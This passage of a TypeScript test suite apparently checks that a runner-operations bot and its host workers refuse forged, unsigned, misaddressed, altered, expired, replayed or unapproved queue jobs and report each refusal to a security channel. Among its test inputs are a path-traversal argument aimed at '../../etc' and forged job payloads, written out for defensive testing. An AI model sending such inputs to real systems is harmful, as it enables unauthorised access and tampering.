      [['prune', '../../etc', '--dry-run'], terminal, /\.\.\/\.\.\/etc|host/],
      [['ping', 'bad-1'], { ...terminal, RUNNEROPS_CLI_KEY: stranger }, /^refused: /],
      [['ping', 'bad-1'], { ...terminal, RUNNEROPS_API_SOCKET: path.join(dir, 'no-bot.sock') }, /cannot reach the bot/],
    ];
    for (const [args, env, names] of runs) {
      const { code, stdout, stderr } = await runRunnerops(args, env);
      cases++;
      const out = `${stdout}${stderr}`.trim();
      expect(code, `${args.join(' ')}: ${out}`).toBe(1);
      expect(isOneLine(out.replace(/^runnerops: /, '')), out).toBe(true);
      expect(out.replace(/^runnerops: /, ''), args.join(' ')).toMatch(names);
      expect(noSecretIn(out)).toBe(true);
    }
  });
});

describe("jobs put on a host's queue by something other than the bot", () => {
  const QUEUED_ON = 'bad-2';
  let forged = 0;

  /** What a Redis credential holder (any runner host's CI job) could push onto bad-2's queue. */
  const forgery = fc.oneof(
    fc
      .jsonValue()
      .map((value) => ({ kind: 'unsigned', name: 'ping', data: (n: string) => ({ commandId: n, payload: value }), refusal: /^refused: unsigned job/ })),
    fc
      .constantFrom(...Object.keys(HOST_JOBS))
      .map((name) => ({ kind: 'unsigned', name, data: (n: string) => ({ commandId: n, payload: {} }), refusal: /^refused: unsigned job/ })),
    fc.constant({
      kind: 'stranger',
      name: 'ping',
      sign: (n: string) => signedHostJob(QUEUED_ON, 'ping', { sentAt: Date.now() }, { commandId: n, signer: generateSigner() }),
      refusal: /^refused: job signed by unknown key/,
    }),
    fc.constant({
      kind: 'other host',
      name: 'ping',
      sign: (n: string) => signedHostJob('bad-1', 'ping', { sentAt: Date.now() }, { commandId: n, signer: operator.botSigner }),
      refusal: /^refused: job signed for queue host\.bad-1 arrived on host\.bad-2/,
    }),
    fc.constantFrom('prune-docker', 'restart-nix-daemon', 'install-runner').map((as) => ({
      kind: 'renamed',
      name: as,
      sign: (n: string) => signedHostJob(QUEUED_ON, 'ping', { sentAt: Date.now() }, { commandId: n, signer: operator.botSigner }),
      refusal: new RegExp(`^refused: job signed as ping queued as ${as}`),
    })),
    fc.jsonValue().map((value) => ({
      kind: 'altered',
      name: 'prune-docker',
      sign: (n: string) => {
        const job = signedHostJob(QUEUED_ON, 'prune-docker', { dryRun: true }, { commandId: n, signer: operator.botSigner });
        (job.data.envelope.body as { payload: unknown }).payload = { dryRun: false, volumes: true, extra: value };
        return job;
      },
      refusal: /^refused: job with a bad signature/,
    })),
    fc.constant({
      kind: 'no approval',
      name: 'rotate-token',
      sign: (n: string) => signedHostJob(QUEUED_ON, 'rotate-token', { requestId: n }, { commandId: n, signer: operator.botSigner }),
      refusal: /^refused: rotate-token without an approval/,
    }),
  );

  async function failed(queue: Queue, jobId: string): Promise<{ reason: string; attempts: number }> {
    let job: Job | undefined;
    // The state and the reason are read together: a job read before it failed has no reason yet.
    await until(async () => (job = await queue.getJob(jobId))?.finishedOn !== undefined && (await job!.getState()) === 'failed', 15_000, `${jobId} failed`);
    return { reason: job!.failedReason, attempts: job!.attemptsMade };
  }

  /** Every event on the stream about `commandId`, whoever signed it. */
  async function eventsAbout(commandId: string): Promise<string[]> {
    const entries = (await admin.xrange(keys.events(prefix), '-', '+')) as [string, string[]][];
    return entries
      .map(([, fields]) => fields[1] ?? '')
      .filter((raw) => {
        try {
          return (JSON.parse(raw) as { body?: { commandId?: unknown } }).body?.commandId === commandId;
        } catch {
          return false;
        }
      });
  }

  it('refuses every unsigned, foreign, misaddressed, altered or unapproved job before it runs, and says so in the security channel', async () => {
    const queue = new Queue(hostQueueName(QUEUED_ON), { connection: admin, prefix });
    try {
      await fc.assert(
        fc.asyncProperty(forgery, async (f) => {
          const commandId = `forged-${forged++}`;
          const { jobId, data } = 'sign' in f ? f.sign(commandId) : { jobId: `${commandId}@${QUEUED_ON}`, data: f.data(commandId) };
          const seen = slack.calls('chat.postMessage').length;
          await queue.add(f.name, data, { jobId });
          const outcome = await failed(queue, jobId);
          cases++;
          expect(outcome.reason, f.kind).toMatch(f.refusal);
          expect(isOneLine(outcome.reason), outcome.reason).toBe(true);
          expect(outcome.attempts).toBeLessThanOrEqual(1);
          const notice = await slack.waitFor(
            'chat.postMessage',
            (c) =>
              c.params.channel === SECURITY &&
              slack.calls('chat.postMessage').indexOf(c) >= seen &&
              String(c.params.text).includes(`${QUEUED_ON} refused a ${f.name} job (`),
            15_000,
          );
          expect(isOneLine(String(notice.params.text)), String(notice.params.text)).toBe(true);
          expect(await eventsAbout(commandId)).toEqual([]);
        }),
        { numRuns: 24, endOnFailure: true },
      );
    } finally {
      await queue.close();
    }
  });

  it('drops a bot-signed job that expired before the host took it, telling the card so, without running it', async () => {
    const queue = new Queue(hostQueueName(QUEUED_ON), { connection: admin, prefix });
    try {
      await fc.assert(
        fc.asyncProperty(fc.integer({ min: 1, max: 86_400_000 }), async (ago) => {
          const commandId = `forged-${forged++}`;
          const { jobId, data } = signedHostJob(
            QUEUED_ON,
            'ping',
            { sentAt: Date.now() },
            { commandId, signer: operator.botSigner, now: Date.now() - ago - 1000, ttlMs: 1000 },
          );
          await queue.add('ping', data, { jobId });
          const outcome = await failed(queue, jobId);
          cases++;
          expect(outcome.reason).toMatch(/^not run: job expired at /);
          const events = (await eventsAbout(commandId)).map((raw) => (JSON.parse(raw) as { body: { type: string; summary?: string } }).body);
          expect(events.map((e) => e.type)).toEqual(['failed']);
          expect(isOneLine(events[0]?.summary ?? ''), events[0]?.summary).toBe(true);
        }),
        { numRuns: 6, endOnFailure: true },
      );
    } finally {
      await queue.close();
    }
  });

  it('fails a bot-signed job with a malformed payload with one line, without running it', async () => {
    const queue = new Queue(hostQueueName(QUEUED_ON), { connection: admin, prefix });
    try {
      await fc.assert(
        fc.asyncProperty(
          fc.jsonValue().filter((v) => !(typeof v === 'object' && v !== null && Number.isInteger((v as { sentAt?: unknown }).sentAt))),
          async (payload) => {
            const commandId = `forged-${forged++}`;
            const { jobId, data } = signedHostJob(QUEUED_ON, 'ping', payload, { commandId, signer: operator.botSigner });
            await queue.add('ping', data, { jobId });
            const outcome = await failed(queue, jobId);
            cases++;
            expect(outcome.reason).toMatch(/^bad payload for ping: /);
            expect(isOneLine(outcome.reason), outcome.reason).toBe(true);
            const events = (await eventsAbout(commandId)).map((raw) => (JSON.parse(raw) as { body: { type: string } }).body.type);
            expect(events).toEqual(['failed']);
          },
        ),
        { numRuns: 10, endOnFailure: true },
      );
    } finally {
      await queue.close();
    }
  });

  it('refuses a copy of a job that already ran', async () => {
    const queue = new Queue(hostQueueName(QUEUED_ON), { connection: admin, prefix });
    try {
      const commandId = `forged-${forged++}`;
      const { jobId, data } = signedHostJob(QUEUED_ON, 'ping', { sentAt: Date.now() }, { commandId, signer: operator.botSigner });
      await queue.add('ping', data, { jobId });
      await until(async () => (await (await queue.getJob(jobId))?.getState()) === 'completed', 15_000, 'the signed ping completed');
      await (await queue.getJob(jobId))!.remove();
      await queue.add('ping', data, { jobId });
      const outcome = await failed(queue, jobId);
      cases++;
      expect(outcome.reason).toMatch(/^refused: replayed job/);
      const types = (await eventsAbout(commandId)).map((raw) => (JSON.parse(raw) as { body: { type: string } }).body.type);
      expect(types.filter((t) => t === 'started')).toEqual(['started']);
    } finally {
      await queue.close();
    }
  });
});

describe('after all of it', () => {
  it('kept the bot and workers up, wrote nothing on the hosts, and logged no error', async () => {
    for (const p of [bot, ...workers]) {
      expect(p.alive()).toBe(true);
      expect(errorLines(await p.output())).toEqual([]);
    }
    expect(cases).toBeGreaterThanOrEqual(200);
  });
});
